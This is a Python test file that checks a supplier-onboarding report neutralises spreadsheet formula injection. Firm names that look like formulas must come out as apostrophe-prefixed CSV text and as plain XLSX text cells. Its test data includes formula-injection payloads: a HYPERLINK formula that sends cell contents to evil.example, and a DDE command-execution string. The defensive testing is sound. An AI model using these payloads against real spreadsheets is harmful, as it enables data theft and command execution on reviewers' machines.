"""A firm's name that looks like a formula (issue #12, finding 4) is loaded as typed and
leaves in the report as text: an apostrophe in CSV, a text cell in XLSX — never a formula
that a reviewer's Excel runs."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from scf.platform.services.onboarding.report import report_csv, report_xlsx
from tests.platform.onboarding.support import SUPPLIER_A, Network, csv_file, line, load

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"详情")'
NAMES = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def csv_report(batch: object) -> list[list[str]]:
    text = report_csv(batch.report).decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", NAMES)
def test_a_formula_as_a_firm_name_reaches_the_csv_report_with_an_apostrophe(
    db_session: Session, network: Network, name: str
) -> None:
    batch = load(db_session, csv_file([SUPPLIER_A | {"name": name}]))
    assert line(batch, 2)["name"] == name  # stored as typed
    header, row = csv_report(batch)
    assert header[2] == "企业名称(name)"
    assert row[2] == "'" + name
    assert row[0] == "2"  # the row number stays a number


def test_a_formula_typed_as_a_code_is_neutralised_in_a_rejected_row(
    db_session: Session, network: Network
) -> None:
    batch = load(db_session, csv_file([SUPPLIER_A | {"uscc": "=1+1"}]))
    assert line(batch, 2)["status"] == "rejected"
    assert csv_report(batch)[1][1] == "'=1+1"


@pytest.mark.parametrize("name", NAMES)
def test_a_formula_as_a_firm_name_is_a_text_cell_in_the_xlsx_report(
    db_session: Session, network: Network, name: str
) -> None:
    batch = load(db_session, csv_file([SUPPLIER_A | {"name": name}]))
    data = report_xlsx(batch.report)
    cell = load_workbook(io.BytesIO(data)).active["C2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", name, True)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
